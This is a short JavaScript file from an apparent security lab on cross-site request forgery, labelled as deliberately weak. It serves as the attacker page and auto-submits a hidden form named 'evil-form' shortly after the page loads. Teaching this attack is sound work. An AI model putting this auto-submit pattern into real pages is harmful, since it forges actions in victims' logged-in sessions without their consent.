// LAB — deliberately weak: the cross-site lab's attacker page submits its
// hidden form as soon as it loads, the way a malicious site would.
(function () {
  "use strict";
  var f = document.getElementById("evil-form");
  if (f) { window.setTimeout(function () { f.submit(); }, 600); }
})();
